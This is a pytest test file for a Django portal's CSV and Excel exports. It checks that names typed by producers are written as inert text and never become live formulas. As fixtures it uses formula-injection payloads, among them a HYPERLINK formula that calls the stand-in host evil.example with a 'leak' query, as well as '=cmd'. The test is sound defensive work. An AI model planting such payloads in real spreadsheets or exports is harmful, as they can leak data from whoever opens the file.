"""Issue 19, item 3: names typed by producers never become live formulas in an export.

Every CSV and XLSX the portal writes shows them as text; numbers (points, averages) stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from reports.exports import SheetWriter, csv_response
from tests import factories

pytestmark = pytest.mark.django_db

EVIL_PRODUCER = '=HYPERLINK("http://evil.example/?leak","x")'
EVIL_PRODUCT = "=1+1"


@pytest.fixture
def evil(today, home_commune):
    """A recognised product and a scored dossier, both named by an attacker."""
    producer = factories.ProducerFactory(name=EVIL_PRODUCER, commune=home_commune)
    product = factories.ProductFactory(name=EVIL_PRODUCT, producer=producer)
    certificate = factories.CertificateFactory(dossier__product=product)
    round_ = factories.RoundFactory(name="Đợt 1 năm 2026")
    council = factories.CouncilFactory(round=round_)
    member = factories.CouncilMemberFactory(council=council, user__full_name="@SUM(A1:A9)").user
    result = factories.CouncilResultFactory(
        dossier__round=round_, dossier__council=council, dossier__product=product
    )
    result.dossier.score_sheets.create(
        member=member, points_by_code={}, total=Decimal("72.50"), submitted_at=timezone.now()
    )
    return certificate, round_


def _cells(response) -> list:
    content = b"".join(response.streaming_content)
    workbook = load_workbook(io.BytesIO(content))  # not read-only: data_type and quotePrefix
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _assert_text(cells, *values):
    for value in values:
        matching = [cell for cell in cells if cell.value == value]
        assert matching, f"{value!r} is missing"
        for cell in matching:
            assert cell.data_type == "s"  # "f" would be a live formula
            assert cell.quotePrefix is True  # stays text when someone edits the cell
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize(
    "url",
    ["reports:export-recognised", "reports:export-round-dossiers", "reports:export-round-results"],
)
def test_excel_exports_write_names_as_text(client, provincial_office, evil, url):
    _certificate, round_ = evil
    client.force_login(provincial_office)
    args = [] if url == "reports:export-recognised" else [round_.pk]

    cells = _cells(client.get(reverse(url, args=args)))

    _assert_text(cells, EVIL_PRODUCER, EVIL_PRODUCT)


def test_results_export_keeps_member_names_as_text_and_points_as_numbers(
    client, provincial_office, evil
):
    _certificate, round_ = evil
    client.force_login(provincial_office)

    cells = _cells(client.get(reverse("reports:export-round-results", args=[round_.pk])))

    _assert_text(cells, "@SUM(A1:A9)")
    total = next(cell for cell in cells if cell.value == 72.5)
    assert total.data_type == "n"


def test_public_catalogue_csv_writes_names_as_text(client, evil):
    response = client.get(reverse("reports:catalogue-csv"))

    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == evil[0].number)
    assert row[2] == "'" + EVIL_PRODUCT
    assert row[4] == "'" + EVIL_PRODUCER


@pytest.mark.parametrize("value", ["=cmd", "+1", "-2+3", "@x", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised_in_both_formats(value):
    workbook = Workbook(write_only=True)
    writer = SheetWriter(workbook, "Thử", ("Tên",))
    writer.append([value, 5, Decimal("-3.25")])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Thử"]
    cells = [sheet.cell(row=2, column=column) for column in (1, 2, 3)]
    streamed = csv_response(("Tên",), [[value, -3]], "x.csv").streaming_content
    text = b"".join(streamed).decode().removeprefix("\ufeff")
    row = list(csv.reader(io.StringIO(text, newline="")))[-1]

    # An XML parser may read a carriage return back as a line feed; what matters is the type.
    assert cells[0].value in {value, value.replace("\r", "\n")}
    assert cells[0].data_type == "s"
    assert [(cell.value, cell.data_type) for cell in cells[1:]] == [(5, "n"), (-3.25, "n")]
    assert row == ["'" + value, "-3"]
